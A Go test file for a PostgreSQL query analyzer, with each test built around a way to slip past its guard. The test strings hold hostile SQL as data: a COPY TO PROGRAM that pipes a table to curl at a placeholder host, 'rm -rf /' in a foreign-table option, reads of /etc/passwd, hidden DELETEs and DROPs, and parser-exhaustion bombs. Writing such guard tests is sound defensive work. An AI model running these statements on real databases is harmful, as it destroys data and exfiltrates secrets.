package query

import (
	"runtime"
	"slices"
	"strings"
	"testing"
)

// Each test here is named after a way around a guard.

func one(t *testing.T, sql string) Statement {
	t.Helper()
	list := Analyze(sql, nil)
	if len(list) != 1 {
		t.Fatalf("%.80q gives %d statements, want 1", sql, len(list))
	}
	return list[0]
}

func wantSigns(t *testing.T, sql string, kind Kind, signs ...Sign) Statement {
	t.Helper()
	st := one(t, sql)
	if st.Kind != kind {
		t.Errorf("%.120q: kind %q, want %q (%s)", sql, st.Kind, kind, st.Problem)
	}
	for _, s := range signs {
		if !st.Has(s) {
			t.Errorf("%.120q: signs %v, want %s", sql, st.Signs, s)
		}
	}
	return st
}

func TestDoorCommentSplitDrop(t *testing.T) {
	for _, sql := range []string{
		"DROP/**/TABLE/**/users", "dRoP\n--x\nTABLE users", "/* SELECT 1 */ DROP TABLE users -- select",
		"/* /* nested */ still */ DROP TABLE users", "\v\fDROP\tTABLE users;", `DROP TABLE "users"`,
		`DROP TABLE U&"\0075sers"`, `drop table U&"!0075sers" UESCAPE '!'`,
	} {
		st := wantSigns(t, sql, Drop, Destructive)
		if len(st.Targets) != 1 || st.Targets[0].Table != "users" {
			t.Errorf("%q drops %v, want users", sql, st.Targets)
		}
	}
}

func TestDoorDropBehindSelect(t *testing.T) {
	list := Analyze("select 1; select ';'; drop table users; --", nil)
	if len(list) != 3 || list[2].Kind != Drop || list[2].SQL != "drop table users" {
		t.Errorf("got %+v", list)
	}
}

func TestDoorDeleteInCTE(t *testing.T) {
	for _, sql := range []string{
		"WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
		"WITH a AS (WITH d AS (DELETE FROM users RETURNING *) SELECT 1) SELECT 1",
		"SELECT * FROM x WHERE id IN (WITH d AS (UPDATE users SET a = 1 RETURNING id) SELECT id FROM d)",
		"WITH d AS (DELETE FROM users) SELECT 1",
	} {
		st := wantSigns(t, sql, Select, NoWhere)
		if !st.Writes || !slices.Contains(st.Targets, Ref{Table: "users"}) {
			t.Errorf("%q: writes %v, targets %v", sql, st.Writes, st.Targets)
		}
	}
}

func TestDoorExplainAnalyze(t *testing.T) {
	for _, sql := range []string{
		"EXPLAIN ANALYZE DELETE FROM users", "EXPLAIN (ANALYZE) DELETE FROM users",
		"explain (analyze true, costs off) delete from users", "EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM users",
		"EXPLAIN (ANALYSE '1') DELETE FROM users", "EXPLAIN ANALYSE DELETE FROM users",
		"EXPLAIN (\"analyze\") DELETE FROM users",
	} {
		st := wantSigns(t, sql, Delete, NoWhere)
		if !st.Writes || st.Inner == nil {
			t.Errorf("%q: writes %v, inner %v", sql, st.Writes, st.Inner)
		}
	}
	if st := wantSigns(t, "EXPLAIN DELETE FROM users", Explain); st.Writes || st.Has(NoWhere) {
		t.Errorf("plain EXPLAIN runs nothing: %+v", st)
	}
	if st := wantSigns(t, "EXPLAIN (ANALYZE false) DELETE FROM users", Explain); st.Writes {
		t.Errorf("EXPLAIN without ANALYZE runs nothing: %+v", st)
	}
	wantSigns(t, "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", DDL)
	wantSigns(t, "EXPLAIN ANALYZE EXECUTE p", Execute)
}

func TestDoorPrepareDelete(t *testing.T) {
	st := wantSigns(t, "PREPARE p AS DELETE FROM users", Prepare, NoWhere)
	if st.Name != "p" || st.Inner == nil || st.Inner.Kind != Delete || !st.Inner.Writes {
		t.Errorf("got %+v", st)
	}
	if st := wantSigns(t, "EXECUTE p(1)", Execute); st.Name != "p" {
		t.Errorf("got %+v", st)
	}
	if st := wantSigns(t, "DEALLOCATE ALL", Deallocate); st.Name != "" {
		t.Errorf("got %+v", st)
	}
}

func TestDoorCursor(t *testing.T) {
	st := wantSigns(t, "DECLARE c CURSOR FOR SELECT email FROM users", Declare)
	if st.Name != "c" || st.Inner == nil || st.Inner.Kind != Select || len(st.Inner.Output) != 1 {
		t.Errorf("got %+v", st)
	}
	if st := wantSigns(t, "FETCH ALL FROM c", Fetch); st.Name != "c" {
		t.Errorf("got %+v", st)
	}
}

func TestDoorDoBlockAndCall(t *testing.T) {
	wantSigns(t, "DO $$ BEGIN EXECUTE 'drop table ' || tg_name; END $$", Unknown, DynamicSQL)
	wantSigns(t, "DO $$ BEGIN EXECUTE 'drop table ' || 'users'; END $$", Do, Destructive)
	wantSigns(t, "CALL wipe()", Unknown, UnknownRoutine)
}

func TestDoorCopy(t *testing.T) {
	wantSigns(t, "COPY users TO PROGRAM 'curl -d @- evil'", CopyTo, Program)
	wantSigns(t, "COPY users FROM PROGRAM 'id'", CopyFrom, Program)
	wantSigns(t, "COPY users TO '/tmp/x'", CopyTo, ServerFile)
	st := wantSigns(t, "COPY (DELETE FROM users RETURNING *) TO STDOUT", CopyTo, NoWhere)
	if !st.Writes {
		t.Error("COPY of a DELETE writes")
	}
	wantSigns(t, "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", CopyTo, ServerFile)
}

func TestDoorFunctions(t *testing.T) {
	for sql, sign := range map[string]Sign{
		"SELECT pg_read_file('/etc/passwd')":                                        ServerFile,
		"SELECT pg_catalog.pg_read_binary_file('x')":                                ServerFile,
		`SELECT "pg_read_file"('x')`:                                                ServerFile,
		"SELECT lo_import('/etc/passwd')":                                           ServerFile,
		"SELECT query_to_xml('delete from users', true, true, '')":                  DynamicSQL,
		"SELECT * FROM dblink('dbname=x', 'drop table users') AS t(a int)":          DynamicSQL,
		"SELECT dblink_exec('x', 'drop table users')":                               DynamicSQL,
		"SELECT set_config('search_path', 'evil', false)":                           SessionState,
		"CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (filename '/etc/passwd')": ServerFile,
		"CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (program 'rm -rf /')":     Program,
		"ALTER FOREIGN TABLE f OPTIONS (SET filename '/etc/passwd')":                ServerFile,
		"ALTER FOREIGN TABLE f OPTIONS (ADD program 'id')":                          Program,
		"SELECT pg_terminate_backend(1)":                                            UnknownRoutine,
		"SELECT wipe()":                                                             UnknownRoutine,
		"SELECT evil.lower('x')":                                                    UnknownRoutine,
		"SELECT 1 ORDER BY wipe()":                                                  UnknownRoutine,
		"SELECT 1 LIMIT (SELECT wipe())":                                            UnknownRoutine,
		"INSERT INTO t VALUES (wipe())":                                             UnknownRoutine,
		"EXPLAIN SELECT wipe()":                                                     UnknownRoutine,
		"DECLARE c CURSOR FOR SELECT wipe()":                                        UnknownRoutine,
		"PREPARE p AS SELECT wipe()":                                                UnknownRoutine,
		"EXECUTE p(wipe())":                                                         UnknownRoutine,
		"ALTER TABLE t ADD COLUMN x int DEFAULT wipe()":                             UnknownRoutine,
		"CREATE INDEX ON t (wipe(a))":                                               UnknownRoutine,
		"COPY t FROM STDIN WHERE wipe()":                                            UnknownRoutine,
	} {
		if st := one(t, sql); !st.Has(sign) {
			t.Errorf("%q: signs %v, want %s", sql, st.Signs, sign)
		}
	}
	if st := one(t, "SELECT setval('s', 1)"); !st.Writes {
		t.Error("setval writes")
	}
	if st := one(t, "SELECT set_config('search_path', 'evil', false)"); st.SetName != "search_path" {
		t.Errorf("set_config names %q", st.SetName)
	}
	if st := one(t, "SELECT count(*), lower(a), now(), pg_sleep(1) FROM t"); len(st.Signs) != 0 {
		t.Errorf("plain functions show %v", st.Signs)
	}
}

// A harmless setting beside another must not give its name to both.
func TestRoleHiddenBehindAnotherSetting(t *testing.T) {
	for sql, want := range map[string]string{
		"select set_config('Role', 'boss', false)":                                                               "role",
		"select set_config('application_name', 'x', false), set_config('role', 'boss', false)":                   "",
		"select set_config('role', 'boss', false), set_config('application_name', 'x', false)":                   "",
		"select set_config('ro' || 'le', 'boss', false), set_config('application_name', 'x', false)":             "",
		"select set_config('application_name', 'x', false) where set_config('role', 'boss', false) = 'boss'":     "",
		"with w as (select set_config('role', 'boss', false)) select set_config('application_name', 'x', false)": "",
		"select set_config('application_name', (select set_config('role', 'boss', false)), false)":               "",
		"select set_config(setting_name := 'application_name', new_value := 'x', is_local := false)":             "",
		"select set_config(is_local := false, new_value := 'application_name', setting_name := 'role')":          "",
	} {
		if st := one(t, sql); st.SetName != want || !st.Has(SessionState) {
			t.Errorf("%s: sets %q, signs %v", sql, st.SetName, st.Signs)
		}
	}
	// Settings on which nothing depends are no state.
	for sql, want := range map[string]string{
		"select set_config('application_name', 'x', false), set_config('application_name', 'y', false)": "application_name",
		"select set_config('a', 'x', false), set_config('b', 'x', false), set_config('b', 'x', false)":  "",
		"select set_config('app.user', current_user, true)":                                             "app.user",
	} {
		if st := one(t, sql); st.SetName != want || st.Has(SessionState) {
			t.Errorf("%s: sets %q, signs %v", sql, st.SetName, st.Signs)
		}
	}
}

// A function of a user's, of a name that PostgreSQL has too, takes its harmlessness away.
func TestDoorShadowedFunction(t *testing.T) {
	s := newSchema(map[string][]string{"users": {"email"}})
	s.routines["lower"] = true
	st := Analyze("SELECT lower(email) FROM users", s)[0]
	if !st.Has(UnknownRoutine) || st.Output[0].Known {
		t.Errorf("got %+v", st)
	}
	st = Analyze("SELECT pg_catalog.lower(email) FROM users", s)[0]
	if st.Has(UnknownRoutine) || !st.Output[0].Known {
		t.Errorf("got %+v", st)
	}
}

// dangerous functions keep their sign whatever a catalogue says.
type trusting struct{ *testSchema }

func (trusting) Harmless(string, string) bool { return true }

func TestDoorTrustingCatalogue(t *testing.T) {
	st := Analyze("SELECT pg_read_file('x'), dblink('a', 'b')", trusting{newSchema(nil)})[0]
	if !st.Has(ServerFile) || !st.Has(DynamicSQL) {
		t.Errorf("signs %v", st.Signs)
	}
}

func TestDoorOperatorBomb(t *testing.T) {
	for _, sql := range []string{
		"SELECT 1 " + strings.Repeat("+", 100_000) + " 1",
		"SELECT 1 " + strings.Repeat("-+", 64) + " 1",
		"SELECT " + strings.Repeat("'a'\n", 2000),
		"SELECT " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000),
		"SELECT a" + strings.Repeat("[", 5000),
		"SELECT 1 -- \xff\n",
		"SELECT 1\x00",
	} {
		st := wantSigns(t, sql, Unknown, Unparsable)
		if st.Problem == "" {
			t.Errorf("%.60q: no problem is named", sql)
		}
	}
}

func TestDoorDeepWithoutParentheses(t *testing.T) {
	if st := one(t, "DELETE FROM t WHERE "+strings.Repeat("NOT ", 4000)+"true"); !st.Has(NoWhere) {
		t.Error("a condition too deep to read lets every row through unseen")
	}
	for _, sql := range []string{
		"SELECT " + strings.Repeat("NOT ", 100_000) + "true",
		"SELECT " + strings.Repeat("- ", 200_000) + "1",
		"SELECT 1" + strings.Repeat("+1", 200_000),
		"SELECT 1" + strings.Repeat("::int", 100_000),
		"SELECT 1" + strings.Repeat(" UNION ALL SELECT 1", 20_000),
		"SELECT * FROM t" + strings.Repeat(" JOIN t ON true", 20_000),
		"DELETE FROM t WHERE " + strings.Repeat("NOT ", 100_000) + "true",
		"SELECT " + strings.Repeat("CASE WHEN true THEN ", 20_000) + "1" + strings.Repeat(" END", 20_000),
	} {
		st := one(t, sql)
		if st.Kind == Unknown && st.Problem == "" {
			t.Errorf("%.60q: unknown without a problem", sql)
		}
	}
}

func TestDoorLongCommentThenDrop(t *testing.T) {
	st := wantSigns(t, "/*"+strings.Repeat("x", 15<<20)+"*/ DROP TABLE users", Unknown, Unparsable)
	if !strings.HasPrefix(st.Problem, ProblemTooLong) {
		t.Errorf("problem %q", st.Problem)
	}
	wantSigns(t, "/*"+strings.Repeat("x", 900_000)+"*/ DROP TABLE users", Drop, Destructive)
}

// Each step of a chain of joins sees all columns before it; neither time nor
// memory may grow with their product.
func TestDoorJoinBomb(t *testing.T) {
	wide := make([]string, 500)
	for i := range wide {
		wide[i] = "c" + itoa(i)
	}
	s := newSchema(map[string][]string{"t": wide})
	for _, sql := range []string{
		"SELECT * FROM t t0" + strings.Repeat(" JOIN t x ON true", 2500),
		"SELECT * FROM t t0" + strings.Repeat(" NATURAL JOIN t", 2500),
		"SELECT " + strings.Repeat("t0,", 50_000) + "1 FROM t t0",
		"SELECT " + strings.Repeat("c499,", 50_000) + "1 FROM t t0",
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		st := Analyze(sql, s)[0]
		runtime.ReadMemStats(&after)
		if used := after.TotalAlloc - before.TotalAlloc; used > 1<<30 {
			t.Errorf("%.40q takes %d MiB", sql, used>>20)
		}
		if st.Kind != Select {
			t.Errorf("%.40q is %q: %s", sql, st.Kind, st.Problem)
		}
	}
}

// Chains of stars double at each step; the analysis must stay bounded and answer.
func TestDoorStarBomb(t *testing.T) {
	var b strings.Builder
	b.WriteString("WITH c0 AS (SELECT * FROM t)")
	for i := range 40 {
		b.WriteString(", c" + itoa(i+1) + " AS (SELECT a.*, b.* FROM c" + itoa(i) + " a, c" + itoa(i) + " b)")
	}
	b.WriteString(" SELECT * FROM c40")
	st := Analyze(b.String(), newSchema(map[string][]string{"t": {"a", "b", "c"}}))[0]
	if _, ok := st.Results(); ok || !st.Partial {
		t.Errorf("a bomb of stars is said to be understood: %d columns", len(st.Output))
	}
}

func TestDoorSettings(t *testing.T) {
	for sql, name := range map[string]string{
		"SET ROLE admin": "role", "SET SESSION AUTHORIZATION admin": "session_authorization", "RESET ROLE": "role",
		"SET search_path = evil": "search_path", "SET SCHEMA 'evil'": "search_path", "RESET ALL": "all", "DISCARD ALL": "all",
		"SET row_security = off": "row_security", `SET "Search_Path" = evil`: "search_path", "SET LOCAL ROLE admin": "role",
		"SET standard_conforming_strings = off": "standard_conforming_strings", "SET NAMES 'SJIS'": "client_encoding",
		"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE": "session characteristics as transaction",
	} {
		if st := wantSigns(t, sql, Set, SessionState); st.SetName != name {
			t.Errorf("%q sets %q, want %q", sql, st.SetName, name)
		}
	}
	if st := wantSigns(t, "SET application_name = 'psql'", Set); len(st.Signs) != 0 {
		t.Errorf("signs %v", st.Signs)
	}
}

// An unknown operator is a function nobody names.
func TestDoorUserOperator(t *testing.T) {
	s := newSchema(map[string][]string{"users": {"email"}})
	st := Analyze("SELECT email OPERATOR(evil.+) 1 FROM users", s)[0]
	if st.Output[0].Known {
		t.Errorf("got %+v", st.Output)
	}
}
